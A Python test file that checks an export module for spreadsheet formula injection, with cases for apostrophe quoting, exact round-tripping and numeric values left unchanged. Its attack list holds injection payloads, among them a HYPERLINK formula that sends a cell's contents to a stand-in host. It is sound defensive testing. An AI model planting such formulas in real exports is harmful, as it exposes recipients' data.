"""Spreadsheet formula injection: every CSV and XLSX the center writes shows text as text.

Written as the attack: a candidate or a question whose text a spreadsheet would run as a
formula lands in the registry CSV and the question bank's CSV/XLSX neutralised (a leading
apostrophe, or a quote-prefixed text cell), while the registry XML keeps the exact text.
"""

import datetime
from decimal import Decimal

import pytest

from qac.exports import looks_like_formula, spreadsheet_safe, spreadsheet_unquote

ATTACKS = ['=HYPERLINK("http://x/?"&A1,"a")', "+cmd", "-1+1", "@SUM(1)"]
MORE_ATTACKS = ["\t=1+1", "\r=1+1", "  =1+1", " \n+1"]


@pytest.mark.parametrize("text", ATTACKS + MORE_ATTACKS)
def test_text_a_spreadsheet_would_run_as_a_formula_gets_an_apostrophe_and_comes_back_exactly(text):
    assert looks_like_formula(text)
    assert spreadsheet_safe(text) == "'" + text
    assert spreadsheet_unquote(spreadsheet_safe(text)) == text


@pytest.mark.parametrize(
    "text", ["Иванов", "", "'апостроф", "Анна-Мария", "1-2", "05.03.2026", "112-233-445 95", "a=b", "'"]
)
def test_ordinary_text_is_written_as_it_is(text):
    assert spreadsheet_safe(text) == text
    assert spreadsheet_unquote(text) == text


@pytest.mark.parametrize("text", ["'=x", "''", "'''a", "''x", "'-5"])
def test_text_already_starting_with_an_apostrophe_round_trips_exactly(text):
    assert spreadsheet_safe(text) == "'" + text
    assert spreadsheet_unquote(spreadsheet_safe(text)) == text


@pytest.mark.parametrize(
    "value", [-5, -1.5, Decimal("-2.50"), 0, None, True, datetime.date(2026, 1, 2), datetime.datetime(2026, 1, 2)]
)
def test_numbers_dates_and_empty_cells_are_never_changed(value):
    """A negative number stored as a number is written as the number (-5), which a spreadsheet reads as
    the value -5: digits and a sign cannot make an expression. Only text is guarded."""
    assert spreadsheet_safe(value) is value


def test_a_negative_number_held_as_text_is_guarded_like_any_text():
    assert spreadsheet_safe("-5") == "'-5"
